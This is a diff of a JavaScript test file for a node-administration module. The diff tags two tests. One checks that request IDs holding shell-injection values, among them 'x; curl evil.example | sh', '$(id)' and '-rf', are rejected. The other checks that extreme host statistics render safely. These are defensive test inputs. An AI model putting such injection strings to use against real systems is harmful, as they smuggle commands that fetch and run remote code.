@@ -19,12 +19,12 @@ it.each([
   ['x; curl evil.example | sh', null],
   ['$(id)', null],
   ['-rf', null],
-])('a request of a node is named %j only where that is a name in a command', async (said, shown) => {
+])('a request of a node is named %j only where that is a name in a command [S-GW-7]', async (said, shown) => {
   const nodes = await administration([{ ...row, pendingRequestId: said }]).nodes('home', new AbortController().signal);
   expect(nodes).toMatchObject([{ requestId: shown, approval: 'pending-approval' }]);
 });
 
-it('a node that claims figures without measure is shown without making the list unreadable', async () => {
+it('a node that claims figures without measure is shown without making the list unreadable [S-GW-7]', async () => {
   const most = Number.MAX_VALUE;
   const hostStats = { cpuCount: 5e-324, loadAverage: [most], memoryTotalBytes: most, diskTotalBytes: most };
   const nodes = await administration([{ ...row, hostStats, lastSeenAtMs: most }]).nodes(
